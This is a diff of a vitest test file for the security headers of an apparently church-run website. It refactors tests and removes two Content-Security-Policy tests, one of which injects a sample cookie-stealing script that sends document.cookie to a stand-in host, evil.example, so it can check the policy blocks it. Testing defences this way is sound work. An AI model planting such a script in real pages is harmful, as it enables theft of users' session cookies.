@@ -1,11 +1,10 @@
-import { createHash } from 'node:crypto'
 import { readdirSync } from 'node:fs'
 import { connect } from 'node:net'
 import { text } from 'node:stream/consumers'
-import { expect, test } from 'vitest'
+import { expect } from 'vitest'
 import { few } from '../support/long.ts'
 import { SENT_GIFT } from '../support/people.ts'
-import { EVERY_ADDRESS, testSite } from '../support/site/server.ts'
+import { EVERY_ADDRESS, test, testSite } from '../support/site/server.ts'
 import { registerFamily } from '../support/site/visitor.ts'
 
 const ALWAYS = {
@@ -98,8 +97,7 @@ test('files, failures, redirects and refusals have them too', async () => {
   expectHeaders('not ready', broken.headers)
 })
 
-test('malformed requests are answered with the headers as well', async () => {
-  const { port } = await testSite()
+test('malformed requests are answered with the headers as well', async ({ site: { port } }) => {
   const said = [
     'no request at all\r\n\r\n',
     'GET / HTTP/1.1\r\nHost: a b\r\n\r\n',
@@ -131,73 +129,10 @@ test('HSTS is sent where the public address is https, and only there', async () 
   expect((await fetch(`${plain.url}/`)).headers.get(hsts)).toBeNull()
 })
 
-const HOSTILE = 'fetch("https://evil.example/?"+document.cookie)'
-
-function hash(source: string): string {
-  return `'sha256-${createHash('sha256').update(source).digest('base64')}'`
-}
-
-/** The inline scripts that the Content-Security-Policy applies to. */
-function inlineScripts(html: string): string[] {
-  const scripts = html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)
-  return [...scripts].flatMap(([, attributes = '', source = '']) =>
-    /\bsrc=|ld\+json/.test(attributes) ? [] : [source],
-  )
-}
-
-test('an injected script may not run, the page’s own scripts may', async () => {
-  const { url } = await testSite({
-    around: (renderPage) => async (request, services) => {
-      const page = await renderPage(request, services)
-      const html = (await page.text()).replace('<main', `<script>${HOSTILE}</script><main`)
-      return new Response(html, page)
-    },
-  })
-  const page = await fetch(`${url}/give`)
-  const policy = page.headers.get('content-security-policy') ?? ''
-  const [injected, ...own] = inlineScripts(await page.text())
-  expect(injected).toBe(HOSTILE)
-  expect(own.length).toBeGreaterThan(2)
-  for (const source of own) expect(policy).toContain(hash(source))
-  expect(policy).not.toContain(hash(HOSTILE))
-})
-
-test('every page may run all of its own scripts, and does not reveal how they are marked', async () => {
-  const { site } = await testSite()
-  const ask = async (path: string, init = {}) =>
-    site.fetch(new Request(`http://church.test${path}`, init))
-  const given = await ask('/give', {
-    method: 'POST',
-    body: new URLSearchParams(SENT_GIFT),
-  })
-  const pages = [...EVERY_ADDRESS, given.headers.get('location') ?? '']
-  let seen = 0
-  for (const address of pages) {
-    const page = await ask(address)
-    if (!page.headers.get('content-type')?.startsWith('text/html')) continue
-    const policy = page.headers.get('content-security-policy') ?? ''
-    const html = await page.text()
-    const scripts = [...new Set(inlineScripts(html))]
-    seen += scripts.length
-    const hashes = scripts.map(hash)
-    expect([address, policy.match(/'sha256-[^']+'/g)?.sort() ?? []]).toEqual([
-      address,
-      hashes.sort(),
-    ])
-    expect([address, html.match(/nonce/)]).toEqual([address, null])
-    expect([...page.headers.keys()]).not.toContain('x-inline-scripts')
-  }
-  expect(seen).toBeGreaterThan(pages.length)
-})
-
 test('a page asks in its head for at most one file of the framework, after what is seen', async () => {
   const { get, read } = await testSite()
-  for (const [path, files] of Object.entries({
-    '/give': 1,
-    '/ewgregister': 1,
-    '/': 0,
-    '/sermons': 0,
-  })) {
+  const expected = { '/give': 1, '/ewgregister': 1, '/': 0, '/sermons': 0 }
+  for (const [path, files] of Object.entries(expected)) {
     const html = await read(path)
     const early = html.split('</head>')[0]?.match(/<link [^>]*rel="modulepreload"[^>]*>/g) ?? []
     expect([path, early.length]).toEqual([path, files])
